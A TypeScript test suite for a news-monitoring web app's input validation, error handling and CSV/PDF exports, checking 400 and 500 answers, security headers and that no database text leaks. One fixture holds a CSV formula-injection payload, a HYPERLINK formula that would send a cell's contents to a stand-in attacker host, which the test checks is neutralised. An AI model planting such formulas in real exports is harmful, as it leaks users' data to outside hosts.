import { DEMO_PASSWORD, loadDemo, storeEdition } from '@atalaya/api';
import { sql, type Db } from '@atalaya/db';
import { createTestDb, testBackends } from '@atalaya/db/testing';
import { EMPTY_FILTER } from '@atalaya/domain';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../src/app.ts';
import { csvRecords } from './support/csv.ts';
import { memoryLog } from './support/memory-log.ts';
import { signInCookie } from './support/sign-in.ts';
import { spawnServer, type SpawnedServer } from './support/spawn-server.ts';

const ORIGIN = 'http://localhost';
const EXPORTS = ['items.csv', 'observations.csv', 'briefing.pdf'];

// What PostgreSQL and PGlite say when a value reaches them that they cannot take; none of it may reach a client.
const DATABASE_TEXT = /byte sequence|encoding "UTF8"|value out of range|out of range for type|does not exist|syntax error|select .* from|pglite|\bat .*\.(?:ts|js|mjs):\d+/i;

/** Filter query strings the dashboard could never send, each with what the answer must name. */
const BAD_FILTERS: Array<[label: string, query: string, message: RegExp]> = [
  ['a NUL in the search text', 'q=cartel%00', /NUL character/],
  ['an impossible date', 'from=2026-02-30', /Invalid date "2026-02-30"/],
  ['year 0', 'from=0000-01-01', /"0000-01-01" is out of range/],
  ['year 99999', 'to=99999-12-31', /Invalid date "99999-12-31"/],
  ['a day after 2100', 'to=2101-01-01', /"2101-01-01" is out of range/],
];

/** The headers every answer carries, errors included. */
function expectSecurityHeaders(res: Response) {
  expect(res.headers.get('content-security-policy')).toContain("default-src 'self'");
  expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  expect(res.headers.get('x-frame-options')).toBe('SAMEORIGIN');
  expect(res.headers.get('x-request-id')).toBeTruthy();
}

async function errorMessage(res: Response): Promise<string> {
  const text = await res.text();
  expect(text).not.toMatch(DATABASE_TEXT);
  const body = JSON.parse(text) as { error: { message?: string; json?: { message: string } } };
  return body.error.message ?? body.error.json?.message ?? '';
}

describe.each(testBackends())('bad input over HTTP on %s', (kind) => {
  let handle: Db;
  let app: ReturnType<typeof createApp>;
  const log = memoryLog();
  let client: string;
  let shareToken: string;
  let requests = 0;

  /** A request with its own id, and the status the request log gave it. */
  async function send(path: string, init: RequestInit & { headers?: Record<string, string> } = {}) {
    const requestId = `bad-input-${kind}-${++requests}`;
    const res = await app.request(path, { ...init, headers: { ...init.headers, 'x-request-id': requestId } });
    const logged = () => log.entries().find((e) => e.requestId === requestId && e.msg === 'request')?.['status'];
    return { res, logged };
  }
  const trpcGet = (procedure: string, input: unknown) => `/trpc/${procedure}?input=${encodeURIComponent(JSON.stringify({ json: input }))}`;

  beforeAll(async () => {
    handle = await createTestDb(kind);
    await loadDemo(handle.db);
    await storeEdition(
      handle.db,
      {
        title: 'Formula test',
        publishedOn: '2025-03-12',
        author: null,
        commentary: null,
        items: [
          {
            headline: '=HYPERLINK("https://evil.example/?"&A1,"Ver nota")\nsegunda línea zqxformula',
            summary: '@SUM(1+1)\r\n+otra',
            date: '2025-03-12',
            outlet: null,
            articleAuthor: null,
            originalTitle: null,
            url: null,
            language: 'es',
            places: ['MX-SIN'],
            topics: [],
            organizations: [],
            people: [],
            metrics: [],
          },
        ],
      },
      { status: 'published', sourceFormat: 'text', origin: 'editor' },
    );
    app = createApp({ db: handle, webDir: '/nonexistent', logger: log.logger });
    client = await signInCookie((p, init) => app.request(p, init), ORIGIN, 'client@atalaya.demo', DEMO_PASSWORD);
    const manager = await signInCookie((p, init) => app.request(p, init), ORIGIN, 'manager@atalaya.demo', DEMO_PASSWORD);
    const views = (await (await app.request(trpcGet('views.list', {}), { headers: { cookie: manager } })).json()) as { result: { data: { json: Array<{ id: number }> } } };
    const viewId = views.result.data.json[0]?.id;
    const shared = await app.request('/trpc/views.share', {
      method: 'POST',
      headers: { cookie: manager, origin: ORIGIN, 'content-type': 'application/json' },
      body: JSON.stringify({ json: { viewId } }),
    });
    shareToken = ((await shared.json()) as { result: { data: { json: { token: string } } } }).result.data.json.token;
  });
  afterAll(() => handle.close());

  it.each(BAD_FILTERS)('an export with %s answers 400 naming it, with the security headers, and is logged as 400', async (_label, query, message) => {
    for (const path of [...EXPORTS.map((file) => `/api/export/${file}?${query}`), ...EXPORTS.map((file) => `/s/${shareToken}/export/${file}?${query}`)]) {
      const { res, logged } = await send(path, { headers: { cookie: client } });
      expect(res.status, path).toBe(400);
      expectSecurityHeaders(res);
      expect(res.headers.get('cache-control')).toBe('no-store');
      expect(await errorMessage(res)).toMatch(message);
      expect(logged()).toBe(400);
    }
  });

  it.each(BAD_FILTERS)('a tRPC read with %s answers 400 naming it, with the security headers', async (_label, query, message) => {
    const filter = { ...EMPTY_FILTER, ...Object.fromEntries(new URLSearchParams(query)) };
    for (const procedure of ['items.list', 'dashboard.get', 'timeline.density']) {
      const { res, logged } = await send(trpcGet(procedure, { filter }), { headers: { cookie: client } });
      expect(res.status, procedure).toBe(400);
      expectSecurityHeaders(res);
      expect(await errorMessage(res)).toMatch(message);
      expect(logged()).toBe(400);
    }
  });

  it('answers an impossible cursor, an id past the database’s range and a NUL in a view’s name with 400, writing nothing', async () => {
    const views = async () => Number((await sql<{ n: number }>`select count(*)::int as n from saved_views`.execute(handle.db)).rows[0]?.n);
    const before = await views();
    const reads: Array<[string, RegExp]> = [
      [trpcGet('items.list', { filter: EMPTY_FILTER, cursor: '2026-02-30_5' }), /Invalid cursor/],
      [trpcGet('items.list', { filter: EMPTY_FILTER, cursor: '2026-01-30_9999999999' }), /Invalid cursor/],
      [trpcGet('items.byId', { id: 2 ** 31 }), /too large/],
    ];
    for (const [path, message] of reads) {
      const { res } = await send(path, { headers: { cookie: client } });
      expect(res.status).toBe(400);
      expect(await errorMessage(res)).toMatch(message);
    }
    for (const input of [{ name: 'Norte\u0000', filter: EMPTY_FILTER }, { name: 'Norte', filter: { ...EMPTY_FILTER, to: '0000-12-31' } }]) {
      const { res, logged } = await send('/trpc/views.create', {
        method: 'POST',
        headers: { cookie: client, origin: ORIGIN, 'content-type': 'application/json' },
        body: JSON.stringify({ json: input }),
      });
      expect(res.status).toBe(400);
      expectSecurityHeaders(res);
      expect(await errorMessage(res)).toMatch(/NUL character|out of range/);
      expect(logged()).toBe(400);
    }
    expect(await views()).toBe(before);
  });

  it('neutralises a formula in an exported cell that holds line breaks', async () => {
    const { res } = await send('/api/export/items.csv?q=zqxformula', { headers: { cookie: client } });
    expect(res.status).toBe(200);
    const rows = await csvRecords(res);
    expect(rows).toHaveLength(1);
    expect(rows[0]?.['headline']).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Ver nota")\nsegunda línea zqxformula');
    expect(rows[0]?.['summary']).toBe("'@SUM(1+1)\r\n+otra");
  });
});

describe.each(testBackends())('a query that fails on %s', (kind) => {
  let handle: Db;
  let app: ReturnType<typeof createApp>;
  const log = memoryLog();
  let client: string;

  beforeAll(async () => {
    handle = await createTestDb(kind);
    await loadDemo(handle.db);
    app = createApp({ db: handle, webDir: '/nonexistent', logger: log.logger });
    client = await signInCookie((p, init) => app.request(p, init), ORIGIN, 'client@atalaya.demo', DEMO_PASSWORD);
    // Sessions still work; every read of items fails, as after a botched deploy.
    await sql`alter table items rename to items_gone`.execute(handle.db);
  });
  afterAll(() => handle.close());

  it('answers an export with a generic 500 and the security headers, logs it as 500, and sends no database text', async () => {
    for (const file of ['items.csv', 'briefing.pdf']) {
      const requestId = `failing-export-${kind}-${file.replace('.', '-')}`;
      const res = await app.request(`/api/export/${file}`, { headers: { cookie: client, 'x-request-id': requestId } });
      expect(res.status).toBe(500);
      expectSecurityHeaders(res);
      expect(await errorMessage(res)).toBe('Something went wrong on the server.');
      const lines = log.entries().filter((e) => e.requestId === requestId);
      expect(lines.find((e) => e.msg === 'request')).toMatchObject({ level: 'error', status: 500 });
      // The cause is in the log, for whoever looks into it.
      expect(JSON.stringify(lines.find((e) => e.msg === 'request failed'))).toContain('items');
    }
  });

  it('answers a tRPC read with a generic 500 and the security headers', async () => {
    const res = await app.request(`/trpc/items.list?input=${encodeURIComponent(JSON.stringify({ json: { filter: EMPTY_FILTER } }))}`, { headers: { cookie: client } });
    expect(res.status).toBe(500);
    expectSecurityHeaders(res);
    expect(await errorMessage(res)).toBe('Something went wrong on the server.');
  });
});

// The HTTP server itself (not only the app) must not turn a failing export into a 500 carrying the database's words.
describe('bad export input against the built server', () => {
  let server: SpawnedServer;
  beforeAll(async () => {
    server = await spawnServer();
  });
  afterAll(() => server?.dispose());

  it('answers 400 with the security headers, for a client that takes gzip or not', async () => {
    const cookie = await signInCookie((p, init) => fetch(`${server.url}${p}`, init), server.url, 'client@atalaya.demo', DEMO_PASSWORD);
    for (const [, query, message] of BAD_FILTERS) {
      for (const encoding of ['identity', 'gzip']) {
        const res = await fetch(`${server.url}/api/export/items.csv?${query}`, { headers: { cookie, 'accept-encoding': encoding } });
        expect(res.status, query).toBe(400);
        expectSecurityHeaders(res);
        expect(await errorMessage(res)).toMatch(message);
      }
    }
    const logged = server
      .output()
      .split('\n')
      .filter((line) => line.includes('"path":"/api/export/items.csv"'))
      .map((line) => (JSON.parse(line) as { status: number }).status);
    expect(logged).toEqual(Array.from({ length: BAD_FILTERS.length * 2 }, () => 400));
  });
});
